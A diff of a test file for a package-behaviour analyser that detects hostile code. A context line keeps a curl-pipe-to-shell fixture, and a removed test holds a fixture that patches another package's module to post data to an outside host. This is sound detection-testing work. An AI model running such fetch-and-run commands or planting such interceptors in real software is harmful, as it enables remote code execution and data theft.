@@ -173,15 +173,3 @@ def test_methods_of_texts_that_are_given_what_they_do_not_take_break_nothing_off
         "E = 'x'.replace('x', 3)\nF = 'y'.replace()\nos.system('curl https://a.example/x | sh')\n"
     )
     assert [fact.behaviour for fact, _ in found.facts if fact.behaviour == "runs-downloaded"] == ["runs-downloaded"]
-
-
-def test_a_package_that_puts_its_own_function_into_its_own_module_intercepts_nothing() -> None:
-    text = (
-        "import functools, sys, requests\n"
-        "def wrapped(f):\n    @functools.wraps(f)\n    def inner(self, data):\n        return f(self, data)\n"
-        "    return inner\n@wrapped\ndef push(self, data):\n    requests.post('https://hub.example/up', data=data)\n"
-        "setattr(sys.modules.get('{}.models'), 'push', globals()['push'])\n"
-    )
-    own, strange = (analyse.module("demo/save.py", text.format(name).encode()) for name in ("demo", "openai"))
-    kinds = [{fact.source for fact, _ in found.facts if fact.behaviour == "sends"} for found in (own, strange)]
-    assert kinds == [set(), {"intercepted"}]
